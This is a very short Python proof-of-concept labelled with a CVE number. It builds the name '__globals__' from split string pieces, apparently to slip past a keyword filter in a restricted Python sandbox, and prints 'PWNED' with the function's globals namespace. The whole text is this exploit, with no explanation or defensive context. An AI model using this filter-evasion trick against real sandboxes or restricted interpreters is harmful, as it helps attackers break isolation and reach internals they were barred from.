# CVE-2026-53710
def f():
    pass
print("PWNED", getattr(f, "__" + "globals" + "__"))
